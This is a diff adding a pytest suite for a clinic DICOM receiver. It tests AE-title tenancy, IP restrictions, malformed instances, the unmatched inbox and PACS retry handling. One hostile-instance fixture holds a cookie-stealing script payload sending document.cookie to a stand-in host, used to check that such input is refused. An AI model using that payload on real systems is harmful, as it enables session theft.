@@ -1,0 +1,236 @@
+"""The receiver in-process (``dicom.scp.server`` on a free port, real associations from a pynetdicom SCU): the
+tenancy matrix of called and calling AE titles, hostile instances, the unmatched inbox, and the PACS down while
+sending."""
+
+from __future__ import annotations
+
+import io
+import threading
+from pathlib import Path
+
+import pytest
+from pydicom.uid import JPEGBaseline8Bit, generate_uid
+from pynetdicom import AE
+
+from analysis.models import Analysis
+from clinics.models import AuditEvent
+from clinics.tenancy import clinic_scope
+from dicom.models import DicomInstance, DicomSend, InstanceStatus, SendStatus
+from dicom.scp import server
+from dicom.services import dicom_node_configure, inbox_assign, inbox_preview, instance_receive, send_resend
+from dicom.tasks import send_to_pacs
+from patients.models import Image
+
+from ..conftest import build_clinic, token_client
+from .conftest import needs_dicom_tools
+from .factories import CT_IMAGE_STORAGE, photo_dataset, xray_dataset
+from .orthanc import free_port
+
+CLINICS = {"alice": ("ALICE_PACS", "SENSOR_A"), "bob": ("BOB_PACS", "SENSOR_B")}
+
+
+@pytest.fixture
+def worlds(transactional_db):  # noqa: ANN001
+    built = {}
+    for slug, (called, calling) in CLINICS.items():
+        world = build_clinic(slug, patient_name=f"{slug.title()}sonmarker")
+        with clinic_scope(world.clinic.id):
+            dicom_node_configure(called_ae=called, calling_aes=[calling])
+        built[slug] = world
+    return built
+
+
+@pytest.fixture
+def scp(worlds):  # noqa: ANN001
+    port = free_port()
+    srv = server("127.0.0.1", port)
+    thread = threading.Thread(target=srv.serve_forever, daemon=True)
+    thread.start()
+    yield port
+    srv.shutdown()
+
+
+def associate(port: int, called: str, calling: str, sop_class: str, syntax: str | None = None):
+    ae = AE(ae_title=calling)
+    ae.add_requested_context(sop_class, syntax or "1.2.840.10008.1.2.1")
+    ae.acse_timeout = ae.dimse_timeout = ae.network_timeout = 30
+    return ae.associate("127.0.0.1", port, ae_title=called)
+
+
+def store(port: int, called: str, calling: str, ds) -> int | None:  # noqa: ANN001
+    assoc = associate(port, called, calling, ds.SOPClassUID)
+    if not assoc.is_established:
+        return None
+    try:
+        status = assoc.send_c_store(ds)
+        return int(status.Status)
+    finally:
+        assoc.release()
+
+
+def stored_files(root: Path) -> set[Path]:
+    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()
+
+
+MATRIX = [
+    (called, calling)
+    for called in ("ALICE_PACS", "BOB_PACS", "NOBODY_PACS")
+    for calling in ("SENSOR_A", "SENSOR_B", "STRANGER")
+]
+
+
+@pytest.mark.parametrize(("called", "calling"), MATRIX)
+def test_association_matrix(scp, worlds, called, calling) -> None:  # noqa: ANN001
+    """Only a clinic's own callers reach it; every refusal is audited in the clinic's chain (or the global one)."""
+    allowed = (called, calling) in CLINICS.values()
+    ds = xray_dataset(patient_id="alice-0001", study_uid=generate_uid(), rows=64, cols=64)
+    assoc = associate(scp, called, calling, ds.SOPClassUID)
+    assert assoc.is_established is allowed and assoc.is_rejected is (not allowed)
+    if assoc.is_established:
+        assoc.release()
+    denied = AuditEvent.unscoped.filter(action="dicom.association", outcome="denied")
+    if allowed:
+        assert not denied.exists()
+        return
+    [event] = denied
+    owner = next((w for w in worlds.values() if CLINICS[w.clinic.slug][0] == called), None)
+    assert event.clinic_id == (owner.clinic.id if owner else None)
+    assert event.details["reason"] == ("unknown_called_ae" if owner is None else "calling_ae_not_allowed")
+    assert event.details["called_ae"] == called and event.details["calling_ae"] == calling
+    assert not DicomInstance.unscoped.exists()
+
+
+def test_a_caller_from_an_address_not_listed_is_refused(scp, worlds) -> None:  # noqa: ANN001
+    with clinic_scope(worlds["alice"].clinic.id):
+        dicom_node_configure(called_ae="ALICE_PACS", calling_aes=["SENSOR_A"], calling_ips=["10.9.0.0/16"])
+    assoc = associate(scp, "ALICE_PACS", "SENSOR_A", xray_dataset(patient_id="x", study_uid="1.2.3").SOPClassUID)
+    assert assoc.is_rejected
+    assert AuditEvent.unscoped.get(action="dicom.association").details["reason"] == "address_not_allowed"
+
+
+def _hostile():
+    study = generate_uid()
+    truncated = xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64)
+    truncated.PixelData = truncated.PixelData[: len(truncated.PixelData) // 2]
+    huge = xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64)
+    huge.Rows = huge.Columns = 60000
+    script = xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64)
+    script.StudyDescription = "<script>fetch('//x.example/'+document.cookie)</script>"
+    wrong_pixels = xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64)
+    wrong_pixels.BitsAllocated, wrong_pixels.BitsStored, wrong_pixels.HighBit = 32, 32, 31
+    return [
+        ("truncated", truncated, 0xC000, "truncated_image"),
+        ("60000x60000", huge, 0xA700, "image_too_large"),
+        ("script", script, 0xA900, "active_content"),
+        ("32-bit pixels", wrong_pixels, 0xA900, "unsupported_dicom_image"),
+    ]
+
+
+@pytest.mark.parametrize(("name", "ds", "status", "code"), _hostile(), ids=[h[0] for h in _hostile()])
+def test_hostile_instances_get_a_failure_status_and_store_nothing(
+    scp,
+    worlds,
+    _image_storage,
+    name,
+    ds,
+    status,
+    code,  # noqa: ANN001
+) -> None:
+    before = stored_files(_image_storage)
+    images = Image.unscoped.count()
+    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == status
+    assert stored_files(_image_storage) == before and Image.unscoped.count() == images
+    assert not DicomInstance.unscoped.exists()
+    refused = AuditEvent.unscoped.get(action="dicom.instance.refused")
+    assert refused.details["status"] == f"0x{status:04X}" and refused.clinic_id == worlds["alice"].clinic.id
+    assert refused.details["reason"] in (code, "corrupt_image")
+
+
+def test_a_compressed_transfer_syntax_or_a_ct_is_refused_at_negotiation(scp, worlds) -> None:  # noqa: ANN001
+    ds = xray_dataset(patient_id="alice-0001", study_uid=generate_uid(), rows=64, cols=64)
+    # pynetdicom as the requestor aborts an association in which no presentation context was accepted
+    jpeg = associate(scp, "ALICE_PACS", "SENSOR_A", ds.SOPClassUID, JPEGBaseline8Bit)
+    assert not jpeg.is_established and not jpeg.accepted_contexts
+    assert [cx.result for cx in jpeg.rejected_contexts] == [0x04]  # transfer syntaxes not supported
+    ct = associate(scp, "ALICE_PACS", "SENSOR_A", CT_IMAGE_STORAGE)
+    assert not ct.is_established and not ct.accepted_contexts
+    assert [cx.result for cx in ct.rejected_contexts] == [0x03]  # abstract syntax (SOP class) not supported
+    assert not DicomInstance.unscoped.exists()
+
+
+def test_unmatched_goes_to_the_inbox_and_is_analysed_once_assigned(scp, worlds, eager, _image_storage) -> None:  # noqa: ANN001
+    alice = worlds["alice"]
+    ds = xray_dataset(patient_id="P-UNKNOWN", name="Nobody^Known", birth="19700101", study_uid=generate_uid())
+    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0x0000
+    with clinic_scope(alice.clinic.id):
+        [held] = DicomInstance.objects.all()
+        assert held.status == InstanceStatus.UNMATCHED and held.image_id is None and held.held_key
+        assert inbox_preview(held)["patient_id"] == "P-UNKNOWN"
+        assert not Image.objects.filter(original_format="DICOM").exists()
+        assigned = inbox_assign(instance=held, patient=alice.patient, actor=alice.users["staff"])
+        assert assigned.status == InstanceStatus.ASSIGNED and assigned.image.patient_id == alice.patient.pk
+        assert Analysis.objects.get(image=assigned.image).status in ("done", "not_assessable")
+        assert AuditEvent.objects.filter(action="dicom.inbox.assign").count() == 1
+    assert not (_image_storage / held.held_key).exists()  # the held file is gone
+    with clinic_scope(worlds["bob"].clinic.id):  # nothing of it in the other clinic
+        assert not DicomInstance.objects.exists()
+    # resending the same instance stores nothing again
+    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0x0000
+    assert DicomInstance.unscoped.count() == 1
+
+
+def test_name_and_birth_date_match_when_the_patient_id_differs(scp, worlds) -> None:  # noqa: ANN001
+    ds = photo_dataset(patient_id="OTHER-7", name="Alicesonmarker^Marker", birth="19800517", study_uid=generate_uid())
+    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0x0000
+    with clinic_scope(worlds["alice"].clinic.id):
+        [instance] = DicomInstance.objects.all()
+        assert instance.status == InstanceStatus.MATCHED and instance.patient_id == worlds["alice"].patient.pk
+        assert instance.image.modality == "photo"
+
+
+@needs_dicom_tools
+def test_pacs_down_while_sending_loses_nothing(worlds, orthanc, eager, settings) -> None:  # noqa: ANN001
+    settings.DICOM_SEND_MAX_ATTEMPTS = 3
+    settings.DICOM_SEND_RETRY_BASE_SECONDS = 0
+    alice = worlds["alice"]
+    study = generate_uid()
+    with clinic_scope(alice.clinic.id):
+        dicom_node_configure(
+            called_ae="ALICE_PACS",
+            calling_aes=["SENSOR_A"],
+            dest_ae=orthanc.aet,
+            dest_host="127.0.0.1",
+            dest_port=orthanc.dicom_port,
+            send_secondary_capture=False,
+        )
+        buffer = io.BytesIO()
+        xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64).save_as(
+            buffer, enforce_file_format=True
+        )
+        instance_receive(data=buffer.getvalue(), calling_ae="SENSOR_A")
+        visit = Image.objects.get(original_format="DICOM").visit
+        from analysis.models import Finding
+
+        Finding.objects.filter(image__visit=visit).update(status="rejected", reason="not_present")
+    orthanc.stop()  # the PACS goes down before the dentist signs
+    client = token_client(alice, "dentist")
+    assert client.post(f"/api/v1/visits/{visit.pk}/report/", {}, format="json").status_code == 201
+    with clinic_scope(alice.clinic.id):
+        [send] = DicomSend.objects.all()
+        # the first attempt ran on commit and failed: still pending, one failure logged, a retry scheduled
+        assert (send.status, send.attempts) == (SendStatus.PENDING, 1)
+    # the retry is delivered (as a worker runs it: retries=1); it fails and retries in turn (run in-process here),
+    # and the third attempt, the last, gives up
+    send_to_pacs.apply(args=[str(send.pk), str(alice.clinic.id)], retries=1, throw=False)
+    with clinic_scope(alice.clinic.id):
+        send.refresh_from_db()
+        assert send.status == SendStatus.FAILED and send.attempts == 3
+        assert [entry["ok"] for entry in send.attempt_log] == [False, False, False]
+        assert AuditEvent.objects.filter(action="dicom.send", outcome="failure").count() == 1
+    orthanc.start()
+    with clinic_scope(alice.clinic.id):
+        send_resend(send=send)
+        send.refresh_from_db()
+        assert send.status == SendStatus.SENT and send.attempts == 4
+    [sr] = orthanc.instances()
+    assert sr["StudyInstanceUID"] == study and sr["Modality"] == "SR"
